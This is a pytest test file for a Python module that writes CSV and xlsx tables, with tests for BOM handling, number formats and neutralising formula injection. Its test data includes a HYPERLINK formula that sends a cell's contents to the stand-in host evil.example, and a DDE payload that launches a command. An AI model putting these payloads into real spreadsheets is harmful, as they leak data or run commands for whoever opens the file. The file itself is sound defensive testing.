"""The one writer of spreadsheet-bound tables (envq/tables.py): CSV with BOM, xlsx, and formula
injection neutralised in both (issue 12 item 10, issue 13)."""

from __future__ import annotations

import io
import subprocess
import sys

import numpy as np
import pandas as pd
import pytest

from envq.tables import Sheet, csv_bytes, neutralise_frame, read_xlsx_sheet, write_csv, write_xlsx

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1", "-2+3", "@SUM(A1:A9)", "\tcmd", "-cmd|' /C calc'!A0"]


def _frame():
    return pd.DataFrame({
        "name": ["长沙市", *HOSTILE, "a-b=c"],
        "change_pct": [-6.9, -2.0, 0.0, 1.5, -0.1, 3.0, -40.0, np.nan],   # numbers stay numbers
        "days": np.arange(8, dtype=np.int64),
        "mixed": ["持平", -6.9, "-6.9", None, "=1", 2, "", "x"],        # a mixed (object) column
    })


def test_csv_has_bom_keeps_program_headers_and_reads_back(tmp_path):
    p = write_csv(_frame(), tmp_path / "sub" / "t.csv")
    raw = p.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")                       # Excel on Chinese Windows: UTF-8
    assert raw[3:].startswith(b"name,change_pct,days,mixed\n")  # headers as programs name them
    back = pd.read_csv(p, encoding="utf-8-sig", keep_default_na=False)
    assert list(back.columns) == ["name", "change_pct", "days", "mixed"]
    assert back["name"][0] == "长沙市"
    # the GBK misreading Excel makes without the BOM would not give this text
    assert "长沙市".encode("utf-8").decode("gbk", errors="replace") != "长沙市"


def test_formula_injection_neutralised_in_csv_numbers_untouched(tmp_path):
    p = write_csv(_frame(), tmp_path / "t.csv")
    back = pd.read_csv(p, encoding="utf-8-sig", keep_default_na=False, dtype={"mixed": str})
    nums = pd.read_csv(p, encoding="utf-8-sig")
    names = back["name"].tolist()
    assert names[0] == "长沙市"
    for got, bad in zip(names[1:7], HOSTILE):
        assert got == "'" + bad, (got, bad)             # shown as text, never evaluated
    assert names[7] == "a-b=c"                          # a trigger inside the text is harmless
    # negative numbers are numbers, not formulas: the numeric column is read back as float
    assert nums["change_pct"].dtype == float
    assert nums["change_pct"].iloc[:7].tolist() == [-6.9, -2.0, 0.0, 1.5, -0.1, 3.0, -40.0]
    # in a mixed column the number -6.9 stays, the text "-6.9" and "=1" are text and neutralised
    assert back["mixed"].tolist() == ["持平", "-6.9", "'-6.9", "", "'=1", "2", "", "x"]
    raw = p.read_text(encoding="utf-8-sig")
    for line in raw.splitlines()[1:]:
        for field in line.split(","):
            assert field.lstrip('"')[:1] not in ("=", "+", "@") or field.startswith("'")


def test_carriage_return_and_tab_are_triggers_too():
    from envq.tables import neutralise

    assert neutralise("\r=1+1") == "'\r=1+1" and neutralise("\t=1") == "'\t=1"


def test_column_names_from_data_are_neutralised():
    df = pd.DataFrame({"=cmd|' /C calc'!A0": [1], "ok": [2]})
    assert list(neutralise_frame(df).columns) == ["'=cmd|' /C calc'!A0", "ok"]


def test_csv_to_stdout_bom_only_when_redirected_to_a_file(tmp_path):
    code = ("import pandas as pd; from envq.tables import write_csv; "
            "write_csv(pd.DataFrame({'城市': ['长沙市'], 'v': [-1.5]}))")
    piped = subprocess.run([sys.executable, "-c", code], capture_output=True, check=True).stdout
    assert piped == "城市,v\n长沙市,-1.5\n".encode()          # a pipe: no BOM for the next program
    out = tmp_path / "redirected.csv"
    with open(out, "wb") as fh:
        subprocess.run([sys.executable, "-c", code], stdout=fh, check=True)
    assert out.read_bytes() == b"\xef\xbb\xbf" + "城市,v\n长沙市,-1.5\n".encode()


def test_write_error_names_the_path_and_leaves_no_temporary(tmp_path):
    blocker = tmp_path / "file"
    blocker.write_text("x")
    with pytest.raises(OSError, match=str(blocker / "t.csv")):
        write_csv(_frame(), blocker / "t.csv")
    assert [p.name for p in tmp_path.iterdir()] == ["file"]   # no temporary left behind


def test_xlsx_numbers_text_formats_frozen_header_and_neutralised(tmp_path):
    from openpyxl import load_workbook

    df = _frame()
    path = write_xlsx([
        Sheet("城市 cities", df, headers={"name": "城市", "change_pct": "同比变化(%)", "days": "天数"},
              decimals={"change_pct": 1}, title="表1 测试", notes=["注：空白表示无数据"]),
        Sheet("bad/name:*?", df.head(1)),
    ], tmp_path / "t.xlsx")
    wb = load_workbook(path)
    assert wb.sheetnames == ["城市 cities", "bad_name___"]
    ws = wb["城市 cities"]
    assert ws["A1"].value == "表1 测试"
    assert [c.value for c in ws[2]] == ["城市", "同比变化(%)", "天数", "mixed"]
    assert ws.freeze_panes == "A3"                               # header row stays visible
    # text is stored as text (type 's'), never as a formula (type 'f'), and neutralised
    for row in ws.iter_rows(min_row=3, max_row=10):
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
    assert ws["A4"].value == "'" + HOSTILE[0] and ws["A4"].data_type == "s"
    assert ws["A5"].value == "'+1"
    # numbers are numbers with the published decimals as display format
    assert ws["B3"].value == -6.9 and ws["B3"].data_type == "n" and ws["B3"].number_format == "0.0"
    assert ws["C5"].value == 2 and ws["C5"].number_format == "0"
    assert ws["B10"].value is None                               # NaN -> empty cell
    assert ws["A12"].value == "注：空白表示无数据"
    assert ws.column_dimensions["A"].width >= 2 * 3             # a CJK name is readable
    back = read_xlsx_sheet(path, "城市 cities")
    csv = pd.read_csv(io.BytesIO(csv_bytes(df)), encoding="utf-8-sig")
    assert back["城市"].tolist() == csv["name"].tolist()
    assert back["同比变化(%)"].iloc[:7].tolist() == csv["change_pct"].iloc[:7].tolist()
